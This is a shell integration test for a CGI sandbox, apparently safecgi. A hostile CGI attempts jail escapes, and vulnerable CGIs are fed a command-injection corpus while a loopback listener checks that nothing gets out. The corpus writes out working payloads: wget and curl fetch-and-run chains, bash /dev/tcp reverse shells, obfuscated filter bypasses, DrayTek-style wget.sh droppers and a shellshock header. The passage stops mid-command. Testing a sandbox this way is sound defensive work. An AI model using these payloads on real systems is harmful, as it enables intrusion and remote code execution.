#!/bin/sh
# The jail, one escape attempt per line.  A hostile C CGI tries each way
# out and says BLOCKED or ALLOWED; every line also checks what the attempt
# would have done on the host: the loopback "attacker" (a listener on the
# host, outside safecgi's namespaces) heard nothing, no file appeared, no
# process outlived its request, and where the seccomp filter is the layer
# that says no, the audit log names the call.
#
# Then the vulnerable CGIs (eval of the raw query, system() of a decoded
# parameter) with an injection corpus covering every filter-bypass class
# of the README's threat section, and a profile that wrongly lets the injected tools run, to
# show the network and filesystem layers hold on their own.  Query
# re-escaping is off (query = raw) in every profile here, so what is
# proven is the jail alone.  A known gap that is documented rather than a
# bug is reported with the TAP TODO directive.
. "${top_srcdir:-.}/tests/integration/lib.sh"

[ -x "$top_builddir/tests/cgi/hostile" ] ||
    bail_out "tests/cgi/hostile is not built"
# The tools the attempts and the injections try to run: were one not
# installed, its attempt would fail for that reason alone and prove
# nothing about the jail.
need_tools wget curl busybox rev base64 bash

ATTACKER_LOG=$T/attacker.log
ATTACKER_PID=
VICTIM_PID=
ABSTRACT=safecgi-hostile-$$
PWNED=hostile-pwned
# Scripts here run as a uid of their own, not nobody: RLIMIT_NPROC counts
# every process of a uid on the host, and other test files running
# scripts as nobody at the same time would eat into this file's limit.
# Of its own run, too: another run of this file at the same time (a
# second checkout on the machine) must not share its fork bomb's count.
# An unnamed uid of Debian's 64000-64999 range that no process runs as.
JAIL_UID=$((64000 + $$ % 900))
while getent passwd "$JAIL_UID" >/dev/null || pgrep -U "$JAIL_UID" >/dev/null; do
	JAIL_UID=$((JAIL_UID + 1))
done
# t_jail_rootless.sh runs this whole file with safecgi itself started by
# JAIL_UID (ROOTLESS=1): scripts then run as that uid and gid, with no
# supplementary group at all (a user namespace cannot set one).
JAIL_GID=$JAIL_UID
if [ -n "${ROOTLESS:-}" ]; then
	ROOTLESS_UID=$JAIL_UID
	JAIL_GROUPS=
else
	JAIL_GROUPS=$JAIL_UID
fi

# running NAME: pids of live (not zombie) processes called NAME that a
# request of this test started (their environment names a script of this
# test's directory): another test's, or the host's, are none of ours.
# One whose environment cannot be read is counted, as in test_procs.
running() {
	for p in $(ps -e -o pid=,stat=,comm= |
	    awk -v n="$1" '$3 == n && $2 !~ /^Z/ { print $1 }'); do
		env=$(tr '\0' '\n' < "/proc/$p/environ" 2>/dev/null)
		if [ -z "$env" ] ||
		    printf '%s\n' "$env" | grep -q "^SCRIPT_FILENAME=$CGIBIN/"; then
			printf '%s ' "$p"
		fi
	done
	return 0
}

jail_cleanup() {
	[ -n "$ATTACKER_PID" ] && kill "$ATTACKER_PID" 2>/dev/null
	[ -n "$VICTIM_PID" ] && kill "$VICTIM_PID" 2>/dev/null
	# a daemon that escaped would be a failure already reported; still,
	# leave nothing behind
	for p in $(running hostile-daemon); do kill -KILL "$p" 2>/dev/null; done
	for f in /etc/$PWNED /usr/$PWNED; do
		[ -e "$f" ] && rm -f "$f"
	done
	cleanup
}
trap jail_cleanup EXIT

# ------------------------------------------------------------ set-up

install_test_scripts
install_script "$top_srcdir/tests/cgi/scripts/vuln_eval.sh" vuln_leaky.sh

# Every script here: the default policy, query re-escaping off, and
# limits small enough that the bombs end quickly.
mkdir -p "$T/rw"
chown "$JAIL_UID:$JAIL_UID" "$T/rw"
cat > "$T/profiles/jail.conf" <<PROFILE
[profile]
name = jail
match = $CGIBIN/*
[identity]
user = $JAIL_UID
group = $JAIL_UID
[limits]
timeout = 10
cpu = 2
output = 8M
[filesystem]
writable = $T/rw
[environment]
query = raw
PROFILE
# system() runs /bin/sh: an operator would have to allow it for this
# script to work at all, so the injection reaches a real shell.
cat > "$T/profiles/vuln-system.conf" <<PROFILE
[profile]
name = vuln-system
match = $CGIBIN/vuln_system
[identity]
user = $JAIL_UID
group = $JAIL_UID
[limits]
timeout = 10
cpu = 2
[filesystem]
exec = /bin/sh
[environment]
query = raw
PROFILE
# Defense in depth: a profile that (wrongly) lets the injected tools run,
# to show that the network and filesystem layers hold on their own.
cat > "$T/profiles/leaky.conf" <<PROFILE
[profile]
name = leaky
match = $CGIBIN/vuln_leaky.sh
[identity]
user = $JAIL_UID
group = $JAIL_UID
[limits]
timeout = 10
cpu = 2
[filesystem]
exec = /usr/bin/wget /usr/bin/curl /usr/bin/touch /usr/bin/id /usr/bin/chmod
exec = /bin/sh
[environment]
query = raw
PROFILE

# The loopback attacker, on the host.  What it serves is the "wget.sh" of
# the DrayTek chain: were it ever run, it would leave a file behind.
python3 "$top_srcdir/tests/integration/attacker.py" "$ATTACKER_LOG" \
    "$T/attacker.port" "$ABSTRACT" "touch $T/pwned-by-wget.sh" 900 \
    2>"$T/attacker.err" &
ATTACKER_PID=$!
i=0
while [ ! -s "$T/attacker.port" ] && [ $i -lt 100 ]; do
	sleep 0.05
	i=$((i + 1))
done
[ -s "$T/attacker.port" ] ||
    { echo "Bail out! the loopback attacker did not start"; cat "$T/attacker.err"; exit 1; }
APORT=$(cat "$T/attacker.port")
: >> "$ATTACKER_LOG"

# A process outside the jail, of the very user scripts run as.
setpriv --reuid=$JAIL_UID --regid=$JAIL_UID --clear-groups sleep 600 &
VICTIM_PID=$!

# A file nginx may read and the scripts may not, behind an internal
# location: only nginx itself can be made to serve it.
mkdir -p "$T/secret"
echo "SECRET-FLAG-$$" > "$T/secret/flag"
chown -R root:www-data "$T/secret"
chmod 0750 "$T/secret"
chmod 0640 "$T/secret/flag"
NGINX_EXTRA="location /internal-secret/ { internal; alias $T/secret/; }"
start_nginx
# one worker: concurrent requests share a PID namespace view and a /tmp,
# which is what the cross-request attempts below need.  Rootless, no
# cgroup is delegated here: the per-request budget is accepted missing.
start_safecgi -c 1 ${ROOTLESS:+--allow-missing cgroup}

# ----------------------------------------------------------- helpers

attacker_lines() { wc -l < "$ATTACKER_LOG"; }


# Processes of requests: everything three or more levels below the
# master (master, worker, spawner, then the request).
request_procs() {
	ps -e -o pid=,ppid=,comm= | awk -v root="$SAFECGI_PID" '
	{ parent[$1] = $2; name[$1] = $3 }
	END {
		for (p in parent) {
			d = 0
			q = p
			while ((q in parent) && q != root && d < 32) {
				q = parent[q]
				d++
			}
			if (q == root && d >= 3)
				printf "%s(%s) ", p, name[p]
		}
	}'
}

# What is still running from requests after a grace of up to 3 s.
leftovers() {
	i=0
	while :; do
		left=$(request_procs)
		[ -z "$left" ] && break
		[ $i -ge 30 ] && break
		sleep 0.1
		i=$((i + 1))
	done
	printf '%s' "$left"
}

audit_mark() {
	if [ -f "$AUDIT" ]; then AMARK=$(wc -l < "$AUDIT"); else AMARK=0; fi
}

# audit_since SYSCALL [PATTERN]: a syscall_blocked event for SYSCALL (and
# PATTERN anywhere in its line) was logged since audit_mark.
audit_since() {
	i=0
	while [ $i -lt 20 ]; do
		tail -n +$((AMARK + 1)) "$AUDIT" 2>/dev/null |
		    grep '"event":"syscall_blocked"' |
		    grep "\"syscall\":\"$1\"" | grep -q -e "${2:-}" && return 0
		sleep 0.1
		i=$((i + 1))
	done
	return 1
}

no_host_file() {
	if [ -e "$1" ]; then
		rm -f "$1"
		return 1
	fi
	return 0
}

# verdict DESCRIPTION REASONS: ok when there are none; the body line
# goes along as a TAP comment either way.
verdict() {
	if [ -z "$2" ]; then
		ok "$1"
	else
		not_ok "$1" "$2"
	fi
	[ -n "${bl:-}" ] && printf '#   body: %.200s\n' "$bl"
	return 0
}

# attempt DESCRIPTION QUERY [SYSCALL [PATTERN [SIDE-EFFECT-CHECK]]]
# One escape attempt of the hostile CGI.  SYSCALL "-" for none.
attempt() {
	desc=$1
	q=$2
	sc=${3:--}
	pat=${4:-}
	side=${5:-}
	name=${q%%=*}
	audit_mark
	am=$(attacker_lines)
	s=$(http_status "$BASE/cgi-bin/hostile?$q")
	bl=$(head -c 400 "$T/body" | head -n 1)
	why=
	case $bl in
	"BLOCKED $name "*)
		;;
	*)
		why="expected 'BLOCKED $name', got '${bl:-<empty>}' (HTTP $s)"
		;;
	esac
	sleep 0.2
	if [ "$(attacker_lines)" != "$am" ]; then
		why="$why; the loopback attacker heard: $(tail -n +$((am + 1)) "$ATTACKER_LOG" | head -3)"
	fi
	left=$(leftovers)
	[ -z "$left" ] || why="$why; processes outlived the request: $left"
	if [ "$sc" != - ] && ! audit_since "$sc" "$pat"; then
		why="$why; no syscall_blocked event for $sc${pat:+ ($pat)} in the audit log"
	fi
	if [ -n "$side" ] && ! eval "$side"; then
		why="$why; side effect on the host: '$side' failed"
	fi
	verdict "$desc" "${why#; }"
}

# ------------------------------------------------------------ sanity

# The attacker must be able to hear, or its silence proves nothing.
curl -s -o /dev/null --max-time 5 "http://127.0.0.1:$APORT/sanity"
python3 - "$APORT" "$ABSTRACT" <<'PY' 2>/dev/null
import socket, sys
port, name = int(sys.argv[1]), sys.argv[2]
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.sendto(b"sanity", ("127.0.0.1", port))
a = socket.socket(socket.AF_UNIX)
a.connect("\0" + name)
a.send(b"sanity\n")
a.close()
PY
sleep 0.5
bl=
check "the loopback attacker hears TCP, UDP and abstract unix clients on the host" \
    [ "$(grep -c "tcp4 .*sanity" "$ATTACKER_LOG")" -ge 1 -a \
      "$(grep -c "^udp " "$ATTACKER_LOG")" -ge 1 -a \
      "$(grep -c "^unix " "$ATTACKER_LOG")" -ge 1 ]

s=$(http_status "$BASE/cgi-bin/hello?id")
check "scripts run as the profile's uid and gid, with no supplementary group" \
    sh -c "grep -q '^uid=$JAIL_UID gid=$JAIL_GID\$' '$T/body' &&
	grep -q '^Groups:	$JAIL_GROUPS *\$' '$T/body'"
if [ -n "$ROOTLESS_UID" ]; then
	WWW_GID=$(getent group www-data | cut -d: -f3)
	check "rootless: safecgi itself runs as the unprivileged user" \
	    [ "$(stat -c %u "/proc/$SAFECGI_PID")" = "$JAIL_UID" ]
	check "rootless: the start-up report names the uid scripts run as" \
	    grep -q "rootless: scripts run as uid $JAIL_UID gid $JAIL_GID" "$ERRLOG"
	check "rootless: --check says the profiles' users are not applied" \
	    sh -c "setpriv --reuid=$JAIL_UID --regid=$JAIL_UID --clear-groups \
	    '$SAFECGI' --check --allow-missing cgroup --profile-dir '$T/profiles' |
	    grep -qx 'identity.user = $JAIL_UID (rootless: not applied, uid $JAIL_UID)'"
	check "rootless with a supplementary group: refuses to start, says why" \
	    sh -c "! timeout 10 setpriv --reuid=$JAIL_UID --regid=$JAIL_UID \
	    --groups=$WWW_GID '$SAFECGI' -s 'unix:$T/other.sock' \
	    --profile-dir '$T/profiles' 2>'$T/refusal' &&
	    grep -q 'supplementary group $WWW_GID' '$T/refusal'"
fi
check "scripts hold no capability in any set, with no_new_privs and a seccomp filter" \
    sh -c "grep -q '^CapInh:	0000000000000000' '$T/body' &&
	grep -q '^CapPrm:	0000000000000000' '$T/body' &&
	grep -q '^CapEff:	0000000000000000' '$T/body' &&
	grep -q '^CapBnd:	0000000000000000' '$T/body' &&
	grep -q '^CapAmb:	0000000000000000' '$T/body' &&
	grep -q '^NoNewPrivs:	1' '$T/body' &&
	grep -q '^Seccomp:	2' '$T/body'"

# ----------------------------------------------------- escape attempts

attempt "hostile CGI cannot connect to a TCP listener on the host's loopback" \
    "tcp_host_loopback=$APORT" socket AF_INET
tail -n +$((AMARK + 1)) "$AUDIT" | grep '"syscall_blocked"' |
    grep '"syscall":"socket"' | head -n 1 > "$T/event"
check "the audit event of a blocked call names its request (script, URI, client)" \
    sh -c "grep -q '\"script\":\"$CGIBIN/hostile\"' '$T/event' &&
	grep -q '\"uri\":\"/cgi-bin/hostile?tcp_host_loopback=' '$T/event' &&
	grep -q '\"client\":\"127.0.0.1\"' '$T/event'"
printf '#   event: %.300s\n' "$(cat "$T/event")"
attempt "hostile CGI cannot send UDP to the host's loopback" \
    "udp=$APORT" socket AF_INET
attempt "hostile CGI cannot connect over IPv6 to the host's ::1" \
    "ipv6=$APORT" socket AF_INET6
attempt "hostile CGI cannot open a raw IP socket" raw socket AF_INET
attempt "hostile CGI cannot open an AF_PACKET socket" packet socket AF_PACKET
attempt "hostile CGI cannot open a netlink socket" netlink socket AF_NETLINK
attempt "hostile CGI can open no socket of any family but AF_UNIX" \
    socket_families socket
attempt "hostile CGI cannot connect to safecgi's own FastCGI socket" \
    "fastcgi_socket=$SOCK"
attempt "hostile CGI cannot connect to an abstract unix socket of the host" \
    "abstract=$ABSTRACT"
attempt "hostile CGI can connect to no unix socket file it can find" unix_scan
# Concurrent requests of a worker share its network namespace: only the
# Landlock scope keeps one from another's abstract socket.
curl -s -o "$T/listen" --max-time 30 \
    "$BASE/cgi-bin/hostile?abstract_listen=jail-$$" &
lpid=$!
sleep 0.5
attempt "hostile CGI cannot connect to another request's abstract unix socket" \
    "abstract=jail-$$"
wait "$lpid"
bl=$(head -n 1 "$T/listen")
check "the other request's listener saw no connection" \
    [ "${bl#BLOCKED abstract_listen }" != "$bl" ]

attempt "hostile CGI cannot execute /bin/sh" exec_sh
attempt "hostile CGI cannot execute wget (and wget reaches nobody)" \
    "exec_wget=$APORT"
attempt "hostile CGI cannot execute curl (and curl reaches nobody)" \
    "exec_curl=$APORT"
# ld.so may be executed (the kernel opens it for every dynamic program);
# run directly, it maps and runs any program it can read
attempt "hostile CGI cannot run /bin/sh through the dynamic loader" \
    exec_ldso_sh
attempt "hostile CGI cannot run wget through the dynamic loader (and wget reaches nobody)" \
    "exec_ldso_wget=$APORT"

attempt "hostile CGI cannot write to /etc" write_etc - "" \
    "no_host_file /etc/$PWNED"
attempt "hostile CGI cannot write to /dev" write_dev - "" \
    "no_host_file /dev/$PWNED"
attempt "hostile CGI cannot write to /usr" write_usr - "" \
    "no_host_file /usr/$PWNED"
attempt "hostile CGI cannot write to its own directory" write_own_dir - "" \
    "no_host_file $CGIBIN/$PWNED"
attempt "hostile CGI cannot execute a file it wrote to /tmp, /var/tmp or /dev/shm (nor through ld.so)" \
    tmp_exec
bl=
check "the refused execve of a file the script wrote to /tmp is on record" \
    sh -c "tail -n +$((AMARK + 1)) '$AUDIT' | grep '\"event\":\"exec_denied\"' |
	grep -q '\"path\":\"/tmp/hostile-exec\.'"
attempt "hostile CGI cannot execute a memfd copy of itself (memfd_create, execveat)" \
    memfd_exec memfd_create
attempt "hostile CGI cannot create a device node" mknod

# Denied calls whose arguments try to break the record: a fake event
# with quotes and newlines in a path, a path without an end, a bad
# pointer.  All fail, the log stays one JSON object a line, nothing is
# forged, the refused execve is recorded, and the worker lives on.
attempt "hostile CGI's forged, unterminated and bad execve paths all fail" \
    "audit_inject=$T/rw" socket AF_INET
bl=
check "the audit log is still one JSON object a line, with nothing forged" \
    python3 -c '
import json, sys
for line in open(sys.argv[1]):
    if json.loads(line).get("event") == "forged":
        sys.exit(1)' "$AUDIT"
check "the execve of the file with the forged name is on record, name intact" \
    python3 -c '
import json, sys
for line in open(sys.argv[1]):
    e = json.loads(line)
    if e.get("event") == "exec_denied" and \
        e.get("path", "").startswith(sys.argv[2] + "/x\"}\n{\"event\""):
        sys.exit(0)
sys.exit(1)' "$AUDIT" "$T/rw"
s=$(http_status "$BASE/cgi-bin/hello")
check "the worker still answers after the malformed calls" [ "$s" = 200 ]
attempt "hostile CGI cannot read /etc/shadow" read_shadow
attempt "hostile CGI cannot read a file only the web server may read" \
    "read_file=$T/secret/flag"
# The response is nginx's to interpret: an X-Accel-Redirect header would
# have nginx serve any location, internal ones too, with its own rights.
s=$(http_status "$BASE/cgi-bin/hostile?accel_redirect=/internal-secret/flag")
if [ "$s" = 502 ] && ! grep -q SECRET-FLAG "$T/body"
then
	ok "hostile CGI cannot make nginx serve it an internal location (X-Accel-Redirect is refused, 502)"
else
	not_ok "hostile CGI cannot make nginx serve it an internal location (X-Accel-Redirect is refused, 502)" "HTTP $s: $(head -c 200 "$T/body")"
fi
attempt "hostile CGI cannot see into /root" see_root
attempt "hostile CGI cannot read /proc/1/environ" proc1_environ
attempt "hostile CGI cannot open /proc/sys, /proc/sysrq-trigger or /sys for writing" \
    write_proc_sys

attempt "hostile CGI cannot setuid(0)" setuid0 setuid
attempt "hostile CGI cannot mount, unmount a mask or fsopen" mount mount
attempt "hostile CGI cannot unshare namespaces" unshare unshare
attempt "hostile CGI cannot clone into new namespaces" clone_ns clone
attempt "hostile CGI cannot setns" setns setns
attempt "hostile CGI cannot ptrace its parent" ptrace_parent ptrace
attempt "hostile CGI cannot use bpf" bpf bpf
attempt "hostile CGI cannot use perf_event_open" perf perf_event_open
attempt "hostile CGI cannot set up an io_uring" io_uring io_uring_setup
attempt "hostile CGI cannot use the kernel keyrings (keyctl, add_key)" \
    keyctl keyctl
attempt "hostile CGI cannot use userfaultfd" userfaultfd userfaultfd
attempt "hostile CGI cannot make its memory executable by personality" \
    personality personality
attempt "hostile CGI cannot make i386 or x32 system calls" compat_syscalls

attempt "hostile CGI cannot signal a process of its own uid outside the jail" \
    "kill_outside=$VICTIM_PID" - "" "kill -0 $VICTIM_PID"

# Another request, running at the same time in the same worker, with a
# secret in its query: this one must not find it.
curl -s -o /dev/null --max-time 30 \
    "$BASE/cgi-bin/hostile?hold=3&secret=SECRET-$$-7731" &
holdpid=$!
sleep 0.5
attempt "hostile CGI cannot read a concurrent request's environment" \
    "peek=SECRET-$$-7731"
wait "$holdpid"

# A daemon: double fork, setsid, sleep.  The script only answers once the
# daemon runs under its name, so it existed; it must not survive.
s=$(http_status "$BASE/cgi-bin/hostile?daemon")
bl=$(head -n 1 "$T/body")
why=
case $bl in
"ALLOWED daemon started"*) ;;
*) why="the daemon did not start: '${bl:-<empty>}' (HTTP $s)" ;;
esac
wait_gone_x() {
	i=0
	while [ -n "$(running hostile-daemon)" ] && [ $i -lt 30 ]; do
		sleep 0.1
		i=$((i + 1))
	done
	[ -z "$(running hostile-daemon)" ]
}
wait_gone_x hostile-daemon ||
    why="$why; hostile-daemon still runs: pid $(running hostile-daemon)"
left=$(leftovers)
[ -z "$left" ] || why="$why; processes outlived the request: $left"
verdict "a double-forked, setsid daemon does not outlive its request" "${why#; }"

# The bombs.  Each must end in the script's own report of its failure;
# a fork bomb at the per-request budget (a cgroup) ends its request
# (t_boundary.sh), without one the script reports RLIMIT_NPROC's refusal.
t0=$(date +%s)
if [ -n "${ROOTLESS:-}" ]; then
	attempt "a fork bomb is stopped by the process limit" forkbomb
	n=$(printf '%s' "$bl" | sed -n 's/.* after \([0-9]*\) forks.*/\1/p')
else
	audit_mark
	s=$(http_status "$BASE/cgi-bin/hostile?forkbomb")
	left=$(leftovers)
	n=$(tail -n +$((AMARK + 1)) "$AUDIT" | grep -c '"limit":"processes"')
	check "a fork bomb is stopped by the process budget (HTTP $s${left:+; left: $left})" \
	    [ "$s" = 500 -a -z "$left" -a "$n" -gt 0 ]
	n=32
fi
t1=$(date +%s%N)
s=$(http_status "$BASE/cgi-bin/hello")
ms=$(( ($(date +%s%N) - t1) / 1000000 ))
bl=
check "after a fork bomb ($n forks) the server answers at once (${ms} ms)" \
    [ "$s" = 200 -a "$ms" -lt 2000 -a "${n:-99999}" -lt 1000 ]

attempt "a memory bomb is stopped by the address-space limit" membomb
mib=$(printf '%s' "$bl" | sed -n 's/.* after \([0-9]*\) MiB.*/\1/p')
bl=
check "the memory bomb got less than 1 GiB (${mib:-?} MiB)" \
    [ -n "$mib" ] && [ "$mib" -lt 1024 ]

# A CPU loop: RLIMIT_CPU (2 s here) kills the spinning process; the
# request timeout (10 s) would be the next line of defence.
t0=$(date +%s)
s=$(http_status "$BASE/cgi-bin/hostile?cpuloop")
el=$(( $(date +%s) - t0 ))
bl=$(head -n 1 "$T/body")
why=
case $s:$bl in
200:"BLOCKED cpuloop spinning child killed by SIGKILL"*|200:"BLOCKED cpuloop spinning child killed by SIGXCPU"*|504:*) ;;
*) why="expected the CPU limit or the timeout to end it, got '$bl' (HTTP $s)" ;;
esac
[ "$el" -le 15 ] || why="$why; took ${el}s"
left=$(leftovers)
[ -z "$left" ] || why="$why; processes outlived the request: $left"
verdict "a CPU loop is killed by the CPU limit (${el}s)" "${why#; }"

# An output flood: the cap (8M here) cuts it, the script is killed.
audit_mark
s=$(curl -s -o "$T/flood" -w '%{http_code}' --max-time 60 \
    "$BASE/cgi-bin/hostile?flood")
size=$(stat -c %s "$T/flood" 2>/dev/null || echo 0)
bl="$size bytes, HTTP $s"
why=
[ "$size" -le $((8 * 1048576 + 65536)) ] || why="received $size bytes"
! grep -q "ALLOWED flood" "$T/flood" || why="$why; the flood ran to its end"
tail -n +$((AMARK + 1)) "$AUDIT" 2>/dev/null | grep '"event":"limit_hit"' |
    grep -q '"limit":"output"' || why="$why; no limit_hit output event"
left=$(leftovers)
[ -z "$left" ] || why="$why; processes outlived the request: $left"
rm -f "$T/flood"
verdict "an output flood is cut at the output cap" "${why#; }"

check "the process outside the jail is still alive" kill -0 "$VICTIM_PID"

# The process limit is meant per request, but RLIMIT_NPROC counts every
# process of the uid: 40 requests of one process each, at the same time,
# under processes = 32.
: > "$T/conc"
pids=
i=0
while [ $i -lt 40 ]; do
	curl -s -o /dev/null -w '%{http_code}\n' --max-time 30 \
	    "$BASE/cgi-bin/hostile?hold=2" >> "$T/conc" &
	pids="$pids $!"
	i=$((i + 1))
done
for p in $pids; do wait "$p"; done
n=$(grep -c '^200$' "$T/conc")
if [ "$n" -eq 40 ]; then
	ok "40 concurrent requests all run under a process limit of 32 each"
else
	todo "40 concurrent requests all run under a process limit of 32 each" \
	    "RLIMIT_NPROC is per uid, not per request: only $n of 40 ran ($(sort "$T/conc" | uniq -c | tr -s ' \n' ' '))"
fi

# ------------------------------------------- vulnerable CGIs: injection

# The injection path must work, or the corpus below proves nothing.
s=$(http_status "$BASE/cgi-bin/vuln_eval.sh?;echo\${IFS}INJECTED-MARKER" -g)
bl=$(tr '\n' ' ' < "$T/body")
check "sanity: with query = raw an injected echo reaches bash (vuln_eval.sh)" \
    grep -q '^INJECTED-MARKER$' "$T/body"
s=$(http_status "$BASE/cgi-bin/vuln_system?host=127.0.0.1%3Becho%20INJECTED-MARKER")
bl=$(tr '\n' ' ' < "$T/body")
check "sanity: an injected echo reaches the shell behind system() (vuln_system)" \
    grep -q '^INJECTED-MARKER$' "$T/body"
bl=

# urlencode: every byte as %XX, as form decoding will undo it
urlencode() {
	printf '%s' "$1" | od -An -v -tx1 | tr -d ' \n' | sed 's/../%&/g'
}

# The corpus: one class and one payload a line, the payload with no
# white space but @SP@ @TAB@ @NL@; @A@ is the attacker's host:port,
# @P@ its port, @T@ the test directory (read-only in the jail, so a
# file there proves a write got out).  Every payload tries to fetch from
# the attacker and/or leave a file.  Payloads with white space in them
# cannot travel raw in a URL and go to vuln_system only, which decodes.
sed -e "s|@A@|127.0.0.1:$APORT|g" -e "s|@P@|$APORT|g" -e "s|@T@|$T|g" \
    > "$T/corpus" <<'CORPUS'
separator-semicolon 127.0.0.1;wget${IFS}http://@A@/semicolon;touch${IFS}@T@/pwned
separator-pipe 127.0.0.1|wget${IFS}http://@A@/pipe|touch${IFS}@T@/pwned
separator-or 127.0.0.1>/nonexistent/x||wget${IFS}http://@A@/or||touch${IFS}@T@/pwned
separator-and 127.0.0.1||true&&wget${IFS}http://@A@/and&&touch${IFS}@T@/pwned
separator-background 127.0.0.1&wget${IFS}http://@A@/background&touch${IFS}@T@/pwned&
separator-newline 127.0.0.1@NL@wget@SP@http://@A@/newline@NL@touch@SP@@T@/pwned
command-substitution 127.0.0.1$(wget${IFS}http://@A@/cmdsubst)$(touch${IFS}@T@/pwned)
backticks 127.0.0.1`wget${IFS}http://@A@/backticks``touch${IFS}@T@/pwned`
ifs-braces 127.0.0.1;wget${IFS}-q${IFS}-O-${IFS}http://@A@/ifs|sh
ifs-dollar9 127.0.0.1;wget$IFS$9http://@A@/ifs9;touch$IFS$9@T@/pwned
brace-expansion 127.0.0.1;{wget,http://@A@/brace};{touch,@T@/pwned};{cat,/etc/passwd}
redirection-for-space 127.0.0.1;cat</etc/passwd;sh</dev/tcp/127.0.0.1/@P@
tab 127.0.0.1;wget@TAB@http://@A@/tab;touch@TAB@@T@/pwned
quotes-in-words 127.0.0.1;w'g'e't'${IFS}http://@A@/quotes;t"ou"ch${IFS}@T@/pwned;w'h'o'am'i
empty-substitution 127.0.0.1;wg$()et${IFS}http://@A@/emptysubst;who$()ami;i$()d
backslashes 127.0.0.1;w\g\et${IFS}http://@A@/backslash;to\uch${IFS}@T@/pwned;i\d
dollar-at 127.0.0.1;wg$@et${IFS}http://@A@/dollarat;i$@d
substring-synthesis 127.0.0.1;cat${IFS}${PATH:0:1}etc${PATH:0:1}passwd;${HOME:0:1}usr${PATH:0:1}bin${PATH:0:1}wget${IFS}http://@A@/substr
ansi-c-hex 127.0.0.1;$'\x77\x67\x65\x74'${IFS}http://@A@/hex;$'\x69\x64'
ansi-c-octal 127.0.0.1;$'\167\147\145\164'${IFS}http://@A@/octal;$'\164\157\165\143\150'${IFS}@T@/pwned
printf-hex 127.0.0.1;$(printf${IFS}'\167\147\145\164')${IFS}http://@A@/printf
base64-pipeline 127.0.0.1;echo${IFS}@B64@|base64${IFS}-d|sh
wildcards 127.0.0.1;/???/??t${IFS}/???/p??s??;/???/???/w?et${IFS}http://@A@/wildcards
pattern-substitution 127.0.0.1;x=wXet;${x//X/g}${IFS}http://@A@/patsubst;y=tXuch;${y//X/o}${IFS}@T@/pwned
rev 127.0.0.1;$(echo${IFS}tegw|rev)${IFS}http://@A@/rev
polyglot 127.0.0.1';wget${IFS}http://@A@/poly1;'"||wget${IFS}http://@A@/poly2;"$(wget${IFS}http://@A@/poly3)`touch${IFS}@T@/pwned`
draytek-mainfunction 127.0.0.1;wget${IFS}http://@A@/wget.sh;${IFS}chmod${IFS}+x${IFS}wget.sh;sh${IFS}wget.sh
draytek-printf-cd 0%52$c%52$ccd${IFS}/dev;wget${IFS}http://@A@/wget.sh;${IFS}chmod${IFS}+x${IFS}wget.sh;sh${IFS}wget.sh
curl-pipe-sh 127.0.0.1;curl${IFS}-s${IFS}http://@A@/curl.sh|sh
dev-tcp 127.0.0.1;exec${IFS}3<>/dev/tcp/127.0.0.1/@P@;echo${IFS}devtcp>&3
dev-tcp-reverse-shell 127.0.0.1;bash${IFS}-c${IFS}'bash${IFS}-i>&/dev/tcp/127.0.0.1/@P@<&1'
busybox-wget 127.0.0.1;busybox${IFS}wget${IFS}http://@A@/busybox;busybox${IFS}nc${IFS}127.0.0.1${IFS}@P@
background-persistence 127.0.0.1;eval${IFS}"(while${IFS}:;do${IFS}:;done)&"
dynamic-loader 127.0.0.1;/lib64/ld-linux-x86-64.so.2${IFS}/usr/bin/id;/lib64/ld-linux-x86-64.so.2${IFS}/usr/bin/wget${IFS}-t1${IFS}http://@A@/ldso;/lib64/ld-linux-x86-64.so.2${IFS}/usr/bin/touch${IFS}@T@/pwned
python-socket 127.0.0.1;python3${IFS}-c${IFS}'import${IFS}socket;socket.create_connection(("127.0.0.1",@P@))'
CORPUS
# what the base64 class decodes to
B64=$(printf 'wget http://127.0.0.1:%s/base64; touch %s/pwned' "$APORT" "$T" |
    base64 -w0)
sed -i "s|@B64@|$B64|" "$T/corpus"

no_pwned_file() {
	for f in "$T/pwned" "$T/pwned-by-wget.sh" "$CGIBIN/wget.sh" \
	    "$CGIBIN/pwned" "$DOCROOT/pwned"; do
		[ -e "$f" ] && { rm -f "$f"; echo "$f"; }
	done
	return 0
}

# inject SCRIPT CLASS URL [curl args]
inject() {
	script=$1
	class=$2
	url=$3
	shift 3
	audit_mark
	am=$(attacker_lines)
	s=$(http_status "$url" -g "$@")
	bl=$(head -c 300 "$T/body" | tr '\n' ' ')
	why=
	case " ${OK_STATUS:-200} " in
	*" $s "*) ;;
	*) why="HTTP $s" ;;
	esac
	sleep 0.2
	if [ "$(attacker_lines)" != "$am" ]; then
		why="$why; the loopback attacker heard: $(tail -n +$((am + 1)) "$ATTACKER_LOG" | head -3)"
	fi
	f=$(no_pwned_file)
	[ -z "$f" ] || why="$why; written on the host: $f"
	left=$(leftovers)
	[ -z "$left" ] || why="$why; processes outlived the request: $left"
	grep -q 'uid=' "$T/body" && why="$why; an injected id ran"
	grep -q '^root:.*:0:0:' "$T/body" && why="$why; an injected cat ran"
	if [ -n "${EXPECT_AUDIT:-}" ] && ! audit_since $EXPECT_AUDIT; then
		why="$why; no syscall_blocked event for $EXPECT_AUDIT"
	fi
	verdict "$script: $class injection runs nothing, writes nothing, reaches nobody" \
	    "${why#; }"
}

while read -r class payload; do
	[ -n "$class" ] || continue
	dec=$(printf '%s' "$payload" | sed -e 's/@SP@/ /g' -e 's/@NL@/\
/g' -e "s/@TAB@/$(printf '\t')/g")
	case $payload in
	*@SP@*|*@NL@*|*@TAB@*)
		;;
	*)
		# bash opens /dev/tcp itself: the filter must see the socket
		case $class in
		dev-tcp*) EXPECT_AUDIT="socket AF_INET" ;;
		esac
		inject vuln_eval.sh "$class" \
		    "$BASE/cgi-bin/vuln_eval.sh?$payload"
		EXPECT_AUDIT=
		;;
	esac
	inject vuln_system "$class" \
	    "$BASE/cgi-bin/vuln_system?host=$(urlencode "$dec")"
done < "$T/corpus"

# Shellshock rides in a header, not the query.  Validation refuses it
# (400) before any script runs; were it let through, bash is patched.
OK_STATUS="200 400"
inject vuln_eval.sh "shellshock-header" "$BASE/cgi-bin/vuln_eval.sh?x" \
    -A "() { :; }; /usr/bin/wget http://127.0.0.1:$APORT/shellshock; /usr/bin/touch $T/pwned"
OK_STATUS=

# The DrayTek request as it arrives: through PATH_INFO, payload in a
# query argument.
inject vuln_eval.sh "draytek-path-info" \
